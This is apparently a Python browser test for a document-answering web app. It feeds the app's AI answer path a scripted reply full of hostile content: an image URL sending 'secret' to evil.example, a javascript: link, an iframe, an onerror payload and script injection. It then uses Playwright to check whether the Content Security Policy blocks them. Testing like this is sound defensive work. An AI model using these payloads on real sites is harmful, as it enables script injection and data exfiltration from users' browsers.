"""Attacks on the reader's browser: code in a document's name, title and text, and in an answer. The
real page and server; the answer's words are given, so that the worst that a model could say is
said."""

from __future__ import annotations

import shutil
import tempfile
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path
from typing import Any, cast

from attacks_bundle import HOSTILE_NAME, IMAGE, PAGE_QUESTION, SCRIPT
from serve_process import KEY

import fieldpack
from fieldpack import Answer, Done, PassagesFound, TextPiece
from fieldpack.answers import Timings
from fieldpack.citations import cite

_ANSWER = (
    f"It costs 14 euros [1]. ![chart](http://evil.example/c.png?q=secret) {IMAGE} {SCRIPT} "
    '[details](http://evil.example/) <a href="javascript:window.pwned=1">more</a> <iframe '
    "src=http://evil.example></iframe>"
)
_FOUND = """() => ({
  pwned: window.pwned === 1,
  built: document.querySelectorAll("script:not([src^='/static/']), iframe, #turns img, dialog img, aside img").length,
  links: [...document.querySelectorAll("a[href]")].filter(a => !a.href.startsWith(location.origin)).length,
})"""


class Parrot:
    """An expert that searches as the real one does and says `_ANSWER`."""

    def __init__(self, expert: fieldpack.Expert) -> None:
        self._expert = expert

    def __getattr__(self, name: str) -> Any:
        return getattr(self._expert, name)

    def load(self) -> None:
        """No model will be asked."""

    def stream(self, question: str, **options: Any) -> Iterator[fieldpack.Event]:
        passages = tuple(self._expert.search(question, 3))
        yield PassagesFound(passages)
        yield from (TextPiece(word + " ") for word in _ANSWER.split(" "))
        text, citations = cite(_ANSWER, passages)
        yield Done(
            Answer(question, text, False, citations, passages, Timings(1, 1, 1, 1, 1, 1), question)
        )


def in_a_browser(hostile: Path) -> list[dict[str, Any]]:
    attack = "code in a document's name and text, a markdown image and code in an answer"
    chromium = (
        shutil.which("chromium")
        or shutil.which("chromium-browser")
        or shutil.which("google-chrome")
    )
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        chromium = None
    if chromium is None:
        return [
            {"attack": attack, "happened": "not tried: no playwright, or no chromium", "held": None}
        ]
    with _serving(hostile) as port, sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=chromium, args=["--no-sandbox", "--headless"]
        )
        with closing(browser):
            return _visit(browser.new_page(), f"http://127.0.0.1:{port}")


def _visit(page: Any, url: str) -> list[dict[str, Any]]:
    elsewhere: list[str] = []
    dialogs: list[str] = []
    blocked: list[str] = []
    page.on(
        "request", lambda sent: None if sent.url.startswith(url) else elsewhere.append(sent.url)
    )
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on(
        "console",
        lambda said: blocked.append(said.text) if "Content Security Policy" in said.text else None,
    )
    page.goto(f"{url}/?token={KEY}")
    page.locator("#question").fill(PAGE_QUESTION)
    page.keyboard.press("Enter")
    page.locator(".turn:last-child[aria-busy=false]").wait_for()
    answered = page.evaluate(_FOUND)
    shown = page.locator(".turn:last-child").inner_text()
    page.locator(".turn:last-child button", has_text="1").first.click()
    page.wait_for_timeout(1000)
    opened, panel = page.evaluate(_FOUND), page.locator("body").inner_text()
    document = HOSTILE_NAME in panel and "costs 14 euros a month. <script>" in panel
    return [
        _row(
            "a markdown image, links and code in an answer",
            answered,
            elsewhere,
            dialogs,
            "evil.example/c.png" in shown,
        ),
        _row("code in a document's name, title and text", opened, elsewhere, dialogs, document),
        _forced(page, blocked),
    ]


def _row(
    attack: str, found: dict[str, Any], elsewhere: list[str], dialogs: list[str], shown: bool
) -> dict[str, Any]:
    happened = (
        f"ran: {found['pwned']}, elements made of it: {found['built']}, links elsewhere: "
        f"{found['links']}, requests "
        f"elsewhere: {len(elsewhere)}, dialogs: {len(dialogs)}, shown as text: {shown}"
    )
    held = not (found["pwned"] or found["built"] or found["links"] or elsewhere or dialogs)
    return {"attack": attack, "happened": happened, "held": held}


def _forced(page: Any, blocked: list[str]) -> dict[str, Any]:
    """If the page did have a hole: code put into it all the same must not run, nor anything be
    fetched from elsewhere."""
    page.evaluate("""() => {
      const made = document.createElement("div");
      made.innerHTML = '<img src="http://evil.example/x.png" onerror="window.pwned=1">';
      const script = document.createElement("script");
      script.textContent = "window.pwned=1";
      document.body.append(made, script);
    }""")
    page.wait_for_timeout(500)
    ran = page.evaluate("() => window.pwned === 1")
    happened = f"ran: {ran}, the policy blocked {len(blocked)} times"
    return {
        "attack": "the same put into the page by force",
        "happened": happened,
        "held": not ran and len(blocked) >= 2,
    }


@contextmanager
def _serving(hostile: Path) -> Iterator[int]:
    from fieldpack_app.server.app import Application
    from fieldpack_app.server.bundles import find_bundles
    from fieldpack_app.server.http import Server
    from fieldpack_app.server.serve import listen
    from fieldpack_app.server.settings import Settings

    def opener(path: Path) -> fieldpack.Expert:
        return cast(
            fieldpack.Expert, Parrot(fieldpack.open(path, verify_contents=False, threads=1))
        )

    with tempfile.TemporaryDirectory() as state, closing(listen("127.0.0.1", 0)) as listening:
        port = listening.getsockname()[1]
        with closing(
            Application(find_bundles([hostile]), opener, Settings(KEY, port, Path(state)))
        ) as application:
            server = Server(application.asgi, application.service.stop_all)
            thread = threading.Thread(target=server.run, args=([listening],))
            thread.start()
            yield port
            server.should_exit = True
            thread.join()
